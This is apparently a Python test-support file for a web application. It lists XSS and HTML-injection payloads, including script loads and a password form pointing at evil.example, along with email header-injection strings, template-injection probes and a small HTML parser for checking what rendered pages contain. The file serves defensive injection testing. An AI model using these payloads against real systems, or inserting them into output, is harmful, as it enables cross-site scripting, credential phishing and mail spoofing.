"""Words from outside that look like something else, and what a page of HTML really holds."""

from html.parser import HTMLParser

HTML_PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "</body></html><script>alert(1)</script>",
    "</p></main><h1>You owe us money</h1>",
    "</title><script>alert(1)</script>",
    "<title>other</title>",
    "<style>body { display: none }</style>",
    "</style><script>alert(1)</script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='https://evil.example'>your council</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<table background='javascript:alert(1)'>",
    "<div style='background: url(javascript:alert(1))'>",
    "<div style='position: fixed; inset: 0'>",
    "<!-- comment",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE html><html lang=xx>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" style="display: none',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;&quot;&apos;&nbsp;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img/src=`x`/onerror=alert(1)>",
    "<br><br><br>",
)  # fmt: skip

HEADER_PAYLOADS = (
    "x\nBcc: everybody@evil.example",
    "x\rBcc: everybody@evil.example",
    "x\r\nBcc: everybody@evil.example",
    "x\n\rBcc: everybody@evil.example",
    "x\r\n Bcc: everybody@evil.example",
    "x\r\n\tBcc: everybody@evil.example",
    "x\r\n\r\nanother body",
    "x\n\nanother body",
    "x\r\rBcc: everybody@evil.example",
    "\r\nBcc: everybody@evil.example",
    "\nBcc: everybody@evil.example",
    "x\r\n",
    "x\n",
    "x\nTo: everybody@evil.example",
    "x\nCc: everybody@evil.example",
    "x\nFrom: mayor@evil.example",
    "x\nReply-To: thief@evil.example",
    "x\nSender: thief@evil.example",
    "x\nReturn-Path: <thief@evil.example>",
    "x\nSubject: You won",
    "x\nContent-Type: text/html",
    "x\nContent-Transfer-Encoding: base64",
    "x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b",
    "x\n--b\nContent-Type: text/html",
    "x\n.\nMAIL FROM:<thief@evil.example>",
    "x\r\n.\r\nQUIT",
    "x\nDKIM-Signature: v=1",
    "x\nX-Priority: 1",
    "x\vBcc: everybody@evil.example",
    "x\fBcc: everybody@evil.example",
    "x\x00Bcc: everybody@evil.example",
    "x\x1bBcc: everybody@evil.example",
    "x\x1cBcc: everybody@evil.example",
    "x\x1dBcc: everybody@evil.example",
    "x\x1eBcc: everybody@evil.example",
    "x\x7fBcc: everybody@evil.example",
    "x\x85Bcc: everybody@evil.example",
    "x\u2028Bcc: everybody@evil.example",
    "x\u2029Bcc: everybody@evil.example",
    "x\x08\x08Bcc: everybody@evil.example",
    "x\u202eelpmaxe.live@ydobyreve :ccB",
    "x\u2066Bcc: everybody@evil.example\u2069",
    "x\ud800Bcc: everybody@evil.example",
)

TEMPLATE_PAYLOADS = (
    "{reference}",
    "{{reference}}",
    "{{7*7}}",
    "{{ 7*7 }}",
    "{}",
    "{0}",
    "{organisation.__class__}",
    "{reference!r}",
    "{reference:>99999999}",
    "{complainant[0]}",
    "{{config.items()}}",
    "{% for x in y %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(reference)s",
    "%s%s%n",
    "$reference",
    "{{{{}}}}",
    "}{",
    "\\1\\g<0>",
)


class Held(HTMLParser):
    """What a page holds: its tags with their attributes, and the text between them."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.texts, self.others = [], [], []
        self.feed(page)
        self.close()

    @property
    def text(self):
        return "".join(self.texts)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, tuple(attrs)))

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        self.others.append(data)

    def handle_pi(self, data):
        self.others.append(data)

    def unknown_decl(self, data):
        self.others.append(data)
